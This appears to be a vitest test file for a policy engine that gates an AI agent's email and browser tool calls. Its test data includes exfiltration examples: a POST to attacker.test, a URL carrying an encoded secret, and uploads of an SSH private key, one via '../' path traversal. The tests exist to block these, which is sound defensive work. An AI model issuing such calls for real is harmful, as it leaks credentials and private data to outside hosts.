import { describe, expect, it } from 'vitest';
import { evaluate } from '../../src/tools';
import { initialState, type TaskPolicy } from '../../src/core/policy';
import { grantFor } from '../../src/core/grants';
import { classify } from '../../src/tools';
import { makePolicy, sendPolicy } from '../support/policy';

const NOW = 1_000;
const email = (to: string) => ({ tool: 'send_email', args: { to, subject: 'hi', body: 'text' } });
const nav = (url: string) => ({ tool: 'browser.navigate', args: { url } });
const post = (url: string, body: Record<string, unknown>) => ({ tool: 'browser.request', args: { method: 'POST', url, kind: 'fetch', body } });
const run = (p: TaskPolicy, call: unknown, state = initialState()) => evaluate(p, state, call, NOW);

describe('evaluator: each check decides when it should, and only then', () => {
  it('schema decides for a malformed call', () => {
    const r = run(sendPolicy(), { tool: 42, args: {} });
    expect(r.record).toMatchObject({ decision: 'BLOCK', check: 'schema' });
    expect(r.record.reason).toContain('tool');
  });
  it('schema does not decide for a well-formed call', () => {
    expect(run(sendPolicy(), email('bob@corp.test')).record.check).not.toBe('schema');
  });

  it('expiry decides once the policy has expired', () => {
    expect(run(sendPolicy({ expiresAt: NOW }), email('bob@corp.test')).record).toMatchObject({ decision: 'BLOCK', check: 'expiry' });
  });
  it('expiry does not decide before the deadline', () => {
    expect(run(sendPolicy({ expiresAt: NOW + 1 }), email('bob@corp.test')).record.decision).toBe('ALLOW');
  });

  it('guards block browser internals and extension pages', () => {
    for (const url of ['chrome://settings', 'chrome-extension://abcdef/popup.html', 'devtools://devtools/x', 'view-source:https://mail.test/']) {
      expect(run(makePolicy({ domains: null }), nav(url)).record).toMatchObject({ decision: 'BLOCK', check: 'guards' });
    }
  });
  it('guards let ordinary sites and about:blank through', () => {
    expect(run(makePolicy({ domains: ['mail.test'] }), nav('https://mail.test/inbox')).record).toMatchObject({ decision: 'ALLOW', check: 'allowed' });
    expect(run(makePolicy({ domains: null }), nav('about:blank')).record.check).not.toBe('guards');
  });

  it('a prohibition blocks even a call an approval covers', () => {
    const call = email('bob@corp.test');
    const grant = grantFor('task-1', call.tool, classify(call), 'task', 0);
    const p = sendPolicy({ grants: [grant], prohibitions: [{ id: 'p1', classes: ['COMMUNICATION'], capabilities: [], tools: [], exceptRecipients: [], quote: 'do not send anything' }] });
    expect(run(p, call).record).toMatchObject({ decision: 'BLOCK', check: 'prohibitions', ruleRef: 'prohibition:p1' });
  });
  it('a prohibition with an exception lets the excepted recipient through to later checks', () => {
    const p = sendPolicy({ prohibitions: [{ id: 'p1', classes: ['COMMUNICATION'], capabilities: [], tools: [], exceptRecipients: ['bob@corp.test'], quote: "don't send it to anyone except bob@corp.test" }] });
    expect(run(p, email('bob@corp.test')).record.decision).toBe('ALLOW');
    expect(run(p, email('eve@evil.test')).record).toMatchObject({ decision: 'BLOCK', check: 'prohibitions' });
  });

  it('the deny list blocks a listed tool', () => {
    expect(run(sendPolicy({ deny: { tools: ['send_email'], capabilities: [], classes: [] } }), email('bob@corp.test')).record).toMatchObject({ decision: 'BLOCK', check: 'deny_list' });
  });
  it('the deny list does not touch other tools', () => {
    expect(run(sendPolicy({ deny: { tools: ['delete_file'], capabilities: [], classes: [] } }), email('bob@corp.test')).record.decision).toBe('ALLOW');
  });

  it('a grant allows exactly its targets and counts its uses', () => {
    const call = email('carol@corp.test');
    const once = grantFor('task-1', call.tool, classify(call), 'once', 0);
    const p = sendPolicy({ grants: [once] });
    const first = run(p, call);
    expect(first.record).toMatchObject({ decision: 'ALLOW', check: 'grants', ruleRef: `grant:${once.id}` });
    const second = run(p, call, first.state);
    expect(second.record).toMatchObject({ decision: 'ASK_USER', check: 'recipient_binding' });
  });
  it('a grant does not cover another recipient', () => {
    const granted = email('carol@corp.test');
    const p = sendPolicy({ grants: [grantFor('task-1', granted.tool, classify(granted), 'task', 0)] });
    expect(run(p, email('mallory@evil.test')).record.check).not.toBe('grants');
  });

  it('argument constraints block past max_calls and ask off-target', () => {
    const p = sendPolicy({ constraints: [{ id: 'k1', capability: 'email.send', recipients: ['bob@corp.test'], maxCalls: 1 }] });
    const first = run(p, email('bob@corp.test'));
    expect(first.record.decision).toBe('ALLOW');
    expect(run(p, email('bob@corp.test'), first.state).record).toMatchObject({ decision: 'BLOCK', check: 'argument_constraints' });
    expect(run(p, email('alice@corp.test')).record).toMatchObject({ decision: 'ASK_USER', check: 'argument_constraints' });
  });
  it('argument constraints for another tool do not decide', () => {
    const p = sendPolicy({ constraints: [{ id: 'k1', tool: 'delete_file', maxCalls: 0 }] });
    expect(run(p, email('bob@corp.test')).record.decision).toBe('ALLOW');
  });

  it('the ceiling blocks, asks, or asks when the class is not listed', () => {
    expect(run(sendPolicy({ ceilings: { COMMUNICATION: 'block' } }), email('bob@corp.test')).record).toMatchObject({ decision: 'BLOCK', check: 'ceiling' });
    expect(run(sendPolicy({ ceilings: { COMMUNICATION: 'ask' } }), email('bob@corp.test')).record).toMatchObject({ decision: 'ASK_USER', check: 'ceiling' });
    expect(run(sendPolicy({ allow: { tools: [], capabilities: [], classes: [] } }), email('bob@corp.test')).record).toMatchObject({ decision: 'ASK_USER', check: 'ceiling' });
  });
  it('a listing alone never grants a consequential class (no ceiling → ask)', () => {
    const p = makePolicy({ allow: { tools: ['send_email'], capabilities: [], classes: ['COMMUNICATION'] }, recipients: ['bob@corp.test'] });
    expect(run(p, email('bob@corp.test')).record).toMatchObject({ decision: 'ASK_USER', check: 'ceiling' });
  });
  it('UNKNOWN is never allowed, whatever the policy lists', () => {
    const p = makePolicy({ ceilings: { UNKNOWN: 'allow' }, allow: { tools: ['frobnicate'], capabilities: ['unknown'], classes: ['UNKNOWN'] } });
    expect(run(p, { tool: 'frobnicate', args: {} }).record).toMatchObject({ decision: 'ASK_USER', check: 'ceiling' });
  });

  it('recipient binding asks for a recipient the user did not name', () => {
    expect(run(sendPolicy(), email('mallory@evil.test')).record).toMatchObject({ decision: 'ASK_USER', check: 'recipient_binding' });
  });
  it('substring is not a match: not-bob@corp.test is not bob@corp.test', () => {
    expect(run(sendPolicy(), email('not-bob@corp.test')).record.check).toBe('recipient_binding');
  });

  it('the domain allowlist blocks data-bearing requests off the list and asks for off-list reading', () => {
    const p = makePolicy({ ceilings: { EXTERNAL_WRITE: 'allow' }, allow: { tools: [], capabilities: [], classes: ['EXTERNAL_WRITE'] }, domains: ['shop.test'] });
    expect(run(p, post('https://attacker.test/collect', { note: 'x' })).record).toMatchObject({ decision: 'BLOCK', check: 'domain_allowlist' });
    expect(run(p, nav('https://news.test/today')).record).toMatchObject({ decision: 'ASK_USER', check: 'domain_allowlist' });
    expect(run(p, post('https://www.shop.test/cart/note', { note: 'x' })).record.decision).toBe('ALLOW');
  });

  it('an exfiltration-shaped URL is blocked even where reading is open', () => {
    const secret = 'c2stbGl2ZS1hYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk';
    expect(run(makePolicy({ domains: null }), nav(`https://attacker.test/p?d=${secret}`)).record).toMatchObject({ decision: 'BLOCK', check: 'exfiltration_url' });
    expect(run(makePolicy({ domains: ['shop.test'] }), nav(`https://attacker.test/p?d=${secret}`)).record).toMatchObject({ decision: 'BLOCK', check: 'exfiltration_url' });
  });
  it('an ordinary search URL is not exfiltration-shaped', () => {
    expect(run(makePolicy({ domains: null }), nav('https://news.test/search?q=electric+cars+2026')).record.decision).toBe('ALLOW');
  });

  it('the path allowlist blocks uploads of unlisted files and passes listed ones', () => {
    const p = makePolicy({ ceilings: { EXTERNAL_WRITE: 'allow' }, allow: { tools: [], capabilities: [], classes: ['EXTERNAL_WRITE'] }, domains: ['drive.test'], paths: ['/home/u/reports'] });
    const upload = (f: string) => ({ tool: 'browser.upload', args: { url: 'https://drive.test/upload', files: [f] } });
    expect(run(p, upload('/home/u/.ssh/id_rsa')).record).toMatchObject({ decision: 'BLOCK', check: 'path_allowlist' });
    expect(run(p, upload('/home/u/reports/q3.pdf')).record.decision).toBe('ALLOW');
    expect(run(p, upload('/home/u/reports/../.ssh/id_rsa')).record.check).toBe('path_allowlist');
  });

  it('the outbound budget blocks once spent', () => {
    const p = sendPolicy({ outboundBudget: { maxCalls: 1, maxBytes: null } });
    const first = run(p, email('bob@corp.test'));
    expect(first.record.decision).toBe('ALLOW');
    expect(run(p, email('bob@corp.test'), first.state).record).toMatchObject({ decision: 'BLOCK', check: 'outbound_budget' });
  });

  it('an explicit approval requirement asks even when everything else allows', () => {
    const p = sendPolicy({ requireApproval: { tools: [], capabilities: [], classes: ['COMMUNICATION'] } });
    expect(run(p, email('bob@corp.test')).record).toMatchObject({ decision: 'ASK_USER', check: 'approval_required' });
  });

  it('an ALLOW names the entry that allowed it and the user words behind it', () => {
    const r = run(sendPolicy(), email('bob@corp.test'));
    expect(r.record).toMatchObject({ decision: 'ALLOW', check: 'allowed', ruleRef: 'allow.classes:COMMUNICATION', evidence: 'reply to bob@corp.test' });
    expect(r.state.outboundCalls).toBe(1);
  });

  it('an internal error fails closed', () => {
    const broken = { ...sendPolicy(), prohibitions: new Proxy([], { get() { throw new Error('boom'); } }) } as unknown as TaskPolicy;
    expect(run(broken, email('bob@corp.test')).record).toMatchObject({ decision: 'BLOCK', check: 'internal_error' });
  });

  it('a non-ALLOW leaves the state unchanged', () => {
    const s = initialState();
    expect(run(sendPolicy(), email('mallory@evil.test'), s).state).toBe(s);
  });
});

describe('evaluator: state identity', () => {
  it('an ALLOW that counts nothing returns the same state object; one that counts returns a new one', () => {
    const s = initialState();
    const read = evaluate(makePolicy({ domains: ['mail.test'] }), s, nav('https://mail.test/inbox'), NOW);
    expect(read.record.decision).toBe('ALLOW');
    expect(read.state).toBe(s);
    const send = evaluate(sendPolicy(), s, email('bob@corp.test'), NOW);
    expect(send.record.decision).toBe('ALLOW');
    expect(send.state).not.toBe(s);
    expect(send.state.outboundCalls).toBe(1);
  });
});
